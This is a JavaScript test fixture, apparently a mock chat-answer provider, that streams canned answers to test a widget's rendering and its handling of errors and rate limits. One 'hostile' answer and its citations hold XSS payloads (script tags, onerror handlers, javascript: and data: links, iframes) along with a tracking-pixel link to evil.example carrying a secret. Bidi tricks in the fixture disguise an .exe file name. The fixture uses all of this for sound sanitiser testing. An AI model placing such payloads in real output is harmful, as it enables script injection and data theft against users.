// What the stand-in answers, by a word in the question.
// Owns: the honest answers, and the hostile ones a model or a crawled page could bring about.
// Never: timing that a test depends on; waits here only make pieces arrive apart.

/** @returns {object} {steps, text, citations} or {status, …} or {destroy} or {expire} */
export function answerFor(question, mock) {
  const name = Object.keys(ANSWERS).find((word) => question.toLowerCase().includes(word));
  return (ANSWERS[name] ?? ANSWERS.nothing)(mock);
}

const shipping = (mock) => [
  {
    id: 1,
    title: "Shipping",
    url: `${mock.host}/page/shipping`,
    quote: "Shipping to Canada costs $14.50 for parcels up to 2 kg and takes 6 to 9 business days.",
  },
];

// Cuts a text in pieces of odd sizes, as providers do.
function stream(text, citations, { wait = 4, size = 7 } = {}) {
  const steps = [];
  const characters = Array.from(text);
  for (let at = 0, turn = 0; at < characters.length; turn += 1) {
    const length = 1 + ((turn * 5) % size);
    steps.push({ wait: turn % 4 === 0 ? wait : 0, event: "delta", data: { text: characters.slice(at, at + length).join("") } });
    at += length;
  }
  if (citations.length > 0) steps.push({ event: "citations", data: { citations } });
  return { steps, text, citations };
}

// A long answer. Its last event carries no text, which would be over what one line of a stream may have.
function bulk(piece, times) {
  const steps = Array.from({ length: times }, () => ({ event: "delta", data: { text: piece } }));
  return { steps: [...steps, { event: "delta", data: { text: "last word" } }, { event: "done", data: { message_id: "message_bulk", citations: [] } }] };
}

const RICH = `## Descaling a kettle

Fill it **half full**, add two spoons of *citric acid* and bring it to the boil. [1]

1. Let it stand for \`20 minutes\`.
2. Pour it away and rinse twice.
   - Steel kettles: wipe the spout.
   - Glass kettles: no scouring pads.

| Water | How often |
|:------|----------:|
| Hard | every 4 weeks |
| Soft | every 12 weeks |

> Never leave vinegar standing overnight.

\`\`\`text
2 spoons to 1 litre
\`\`\`

---

More on the [care page](HOST/page/care).`;

const HOSTILE = `<img src=x onerror="window.hacked=1"><script>window.hacked=2</script> a < b && c > d

[click](javascript:window.hacked=3) [data](data:text/html,<script>window.hacked=4</script>) [off site](https://evil.example/login)
https://evil.example/bare ![pixel](https://evil.example/track.png?q=secret) <https://evil.example/angle>
[user](http://127.0.0.1@evil.example/) [relative](/api/v1/widget/session) [tab](java\tscript:alert(1)) [back](https:\\\\evil.example)
<iframe src="https://evil.example"></iframe><style>body{display:none}</style><svg onload=window.hacked=5>
[good](HOST/page/good) [cited](CITED#part)

| <b>x</b> | [y](javascript:1) |
|---|---|
| <img src=https://evil.example/z.png> | ok |

\`\`\`html"><img src=x onerror=window.hacked=6>
<script>window.hacked=7</script>
\`\`\`
[1] [99]`;

const ARABIC = `نعم، نشحن إلى كندا:

1. \`PDF\` ملف الشحن
2. PDF للفاتورة
   - Canada Post
3. **التوصيل** إلى كندا

- Kettle أولا
- ثم الشاي

> ملاحظة Tea
>
> Tea ثم

| الماء | Every |
|:------|------:|
| Hard | أربعة أسابيع |`;

const CANADA = "Shipping to Canada costs **$14.50** for parcels up to 2 kg and takes 6 to 9 business days. [1]";

const ANSWERS = {
  canada: (mock) => stream(CANADA, shipping(mock)),
  // The same, which waits on its way until the test says so.
  pieces: (mock) => {
    const answer = stream(CANADA, shipping(mock));
    answer.steps.splice(8, 0, { until: "second" });
    answer.steps.splice(2, 0, { until: "first" });
    return answer;
  },
  descale: (mock) => stream(RICH.replace("HOST", mock.host), [{ id: 1, title: "Kettle care", url: `${mock.host}/page/care`, quote: "Descale every four weeks in a hard water area." }], { size: 9 }),
  hostile: (mock) =>
    stream(HOSTILE.replace("HOST", mock.host).replace("CITED", "https://docs.example/retrieved"), [
      { id: 1, title: `<img src=x onerror="window.hacked=8">`, url: "https://docs.example/retrieved", quote: `"><script>window.hacked=9</script>` },
      { id: 2, title: "A javascript address", url: "javascript:window.hacked=10", quote: "q" },
      { id: 3, title: "Credentials", url: "https://shop@evil.example/", quote: "q" },
    ]),
  bidi: () => stream("abc \u202Egpj.exe\u202C balanced, \u202Eopen and \u2066isolate\u2069.\nnext line \u{E0041}\u{E0042} \u0007bell, family \u{1F468}\u200D\u{1F469}\u200D\u{1F467} Z" + "\u0335".repeat(60), []),
  half: () => {
    const bytes = Buffer.from(`event: delta\ndata: {"text":"Wärme für 茶 \u{1F375}"}\n\n`);
    const steps = Array.from(bytes, (_, at) => ({ wait: at % 16 === 0 ? 1 : 0, bytes: bytes.subarray(at, at + 1) }));
    return { steps, text: "Wärme für 茶 \u{1F375}", citations: [] };
  },
  hold: () => ({ steps: [{ event: "delta", data: { text: "This is the first part" } }, { hold: true }] }),
  cut: () => ({ steps: [{ event: "delta", data: { text: "This answer stops in the mid" } }] }),
  broken: () => ({
    steps: [{ event: "delta", data: { text: "Part of it. " } }, { event: "error", data: { error: { code: "provider_failed", message: "The answer could not be finished.", request_id: "req_mock_0002" } } }],
  }),
  limit: () => ({ status: 429, code: "rate_limited", message: "Too many requests.", headers: { "retry-after": "2" } }),
  down: () => ({ status: 503, code: "unavailable", message: "Please try again." }),
  oops: () => ({ status: 500, code: "internal", message: "Something went wrong." }),
  full: () => ({ status: 409, code: "conversation_full", message: "This conversation is full." }),
  progress: () => ({ status: 409, code: "answer_in_progress", message: "An answer is being written." }),
  lengthy: (mock) => ({ ...stream("This answer was cut at its longest [1]", shipping(mock)), cutShort: true }),
  arabic: () => stream(ARABIC, []),
  rejected: () => ({ status: 422, code: "message_too_long", message: "The message is longer than 1000 characters." }),
  offline: () => ({ destroy: true }),
  expired: (mock) => ({ expire: true, ...stream("A fresh session answers. [1]", shipping(mock)) }),
  flood: () => stream(`${"[".repeat(3000)}${"*_~`".repeat(3000)}\n${"> ".repeat(500)}x\n${"| a ".repeat(400)}|\n${"|---".repeat(400)}|\n${"https://evil.example/a ".repeat(800)}`, [], { size: 4000, wait: 1 }),
  several: (mock) =>
    stream("It is **$14.50**. [1] It is free from $150.00. [3] Opened tea stays. [4]", [
      ...shipping(mock),
      { id: 3, title: "Shipping", url: `${mock.host}/page/shipping`, quote: "It is free for orders of $150.00 or more." },
      { id: 4, title: "Returns", url: `${mock.host}/page/returns`, quote: "Opened tea cannot be returned." },
    ]),
  long: (mock) => stream(Array.from({ length: 60 }, (_, at) => `Paragraph ${at + 1} with some words in it.`).join("\n\n"), shipping(mock), { size: 60 }),
  links: (mock) => bulk(`[a](${mock.host}/page) `.repeat(200), 50),
  megabyte: () => bulk("word **b** and more of it \u{1F375} ".repeat(520), 72),
  // Waits in its middle and before its end, until the test says so.
  gate: () => {
    const answer = stream("", []);
    answer.steps = [{ event: "delta", data: { text: "The first part" } }, { until: "middle" }, { event: "delta", data: { text: " and the second" } }, { until: "end" }];
    return { ...answer, text: "The first part and the second" };
  },
  nothing: () => stream("I could not find that on this site.", []),
};
